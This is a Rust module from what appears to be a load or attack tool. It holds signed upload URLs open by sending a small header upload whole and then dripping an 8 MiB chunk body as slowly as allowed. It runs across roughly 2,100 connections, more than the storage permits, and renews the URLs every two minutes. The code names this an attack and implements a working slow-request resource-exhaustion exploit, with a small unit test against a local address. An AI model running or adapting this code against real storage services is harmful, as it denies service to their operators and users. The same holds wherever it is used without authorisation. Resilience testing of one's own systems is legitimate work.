//! Slow PUTs to the storage, on URLs that the server signed.

use std::fmt::Write as _;
use std::io::Write as _;
use std::net::TcpStream;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use data_encoding::HEXLOWER;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use super::connections::{LEAST_BYTES, PAUSE, keep};
use super::http::{answer, connect, is_open_read};
use super::uploads::{chunk, release, upload};
use super::{Attack, count};

/// More than a storage may let be under way at once.
const PUTS: usize = 2_100;
/// New ones at once, so that those that are under way keep the lowest rate.
const PUTS_AT_ONCE: usize = 100;
/// What is sent whole on each connection first, so that it counts as somebody's who may.
const WHOLE: [u8; 1_000] = [b' '; 1_000];
/// What is then sent as slowly as it is allowed.
const SLOW_BYTES: usize = 8 << 20;
/// URLs are signed anew so often: they are good for some minutes.
const RENEW_EVERY: Duration = Duration::from_secs(120);

/// A request to the storage, but for its body.
struct Put(String);

/// Does so until the end; asks for other URLs whenever the server refuses.
pub(super) fn puts(attack: &Attack) {
    let mut held = Vec::new();
    while attack.goes_on() {
        if signed(attack).map(|puts| drip(attack, &puts, &mut held)).is_err() {
            count(&attack.done.refused);
            attack.sleep(PAUSE);
        }
    }
}

/// Sends on all connections what they have to, and makes those that are missing, until it is time for other URLs.
fn drip(attack: &Attack, puts: &[Put; 2], held: &mut Vec<TcpStream>) {
    let renew = Instant::now() + RENEW_EVERY;
    while attack.goes_on() && Instant::now() < renew {
        held.retain_mut(|stream| keep(attack, is_open_read(stream)));
        for _ in 0..PUTS_AT_ONCE.min(PUTS - held.len()) {
            let Ok(stream) = begin(attack, puts) else {
                count(&attack.done.refused);
                break;
            };
            count(&attack.done.puts);
            held.push(stream);
        }
        for stream in held.iter_mut() {
            // One that was ended is replaced above.
            let _ = stream.write_all(&LEAST_BYTES);
        }
        attack.sleep(PAUSE);
    }
}

fn begin(attack: &Attack, [whole, slow]: &[Put; 2]) -> Result<TcpStream> {
    let mut stream = connect(attack.storage)?;
    stream.write_all(&[whole.0.as_bytes(), &WHOLE].concat())?;
    let (status, _) = answer(&mut stream)?;
    ensure!(status == 200, "the storage does not take what it is given: {status}");
    stream.write_all(slow.0.as_bytes())?;
    Ok(stream)
}

/// Opens an upload whose header is sent whole and whose chunk slowly.
fn signed(attack: &Attack) -> Result<[Put; 2]> {
    let mut stream = attack.api.connect()?;
    let release = release(attack, &mut stream)?;
    let jobs = json!({ "first_index": 0, "count": 1, "first_chunk": 0, "last_chunk": 0 });
    let header = HEXLOWER.encode(&Sha256::digest(WHOLE));
    let upload = upload(attack, &release, &header, &jobs, &json!([chunk(0, SLOW_BYTES)?]))?;
    let request = json!({ "uploads": [upload] }).to_string();
    let (status, body) = attack.api.exchange(&mut stream, "POST", "/v1/uploads", Some(&request))?;
    ensure!(status == 200, "the upload is not opened: {status}");
    let body: Value = serde_json::from_slice(&body)?;
    let opened = &body["uploads"][0]["ok"];
    Ok([Put::read(&opened["header"])?, Put::read(&opened["chunks"][0])?])
}

impl Put {
    /// Reads one as the server signed it.
    fn read(signed: &Value) -> Result<Self> {
        let url = signed["url"].as_str().and_then(|url| url.strip_prefix("http://")).context("there is no URL")?;
        let (host, path) = url.split_once('/').context("the URL has no path")?;
        let mut head = format!("PUT /{path} HTTP/1.1\r\nhost: {host}\r\n");
        for (name, value) in signed["headers"].as_object().context("there are no headers")? {
            write!(head, "{name}: {}\r\n", value.as_str().context("a header is no text")?)?;
        }
        Ok(Self(head + "\r\n"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_put_is_sent_as_it_was_signed() {
        let signed = json!({
            "url": "http://127.0.0.1:9/bucket/key?X-Amz-Signature=1", "expires_in_s": 900,
            "headers": { "content-length": "1000", "x-amz-checksum-sha256": "abc=" },
        });
        assert_eq!(
            Put::read(&signed).expect("a request").0,
            "PUT /bucket/key?X-Amz-Signature=1 HTTP/1.1\r\nhost: 127.0.0.1:9\r\ncontent-length: 1000\r\n\
             x-amz-checksum-sha256: abc=\r\n\r\n"
        );
        assert!(Put::read(&Value::Null).is_err());
    }
}
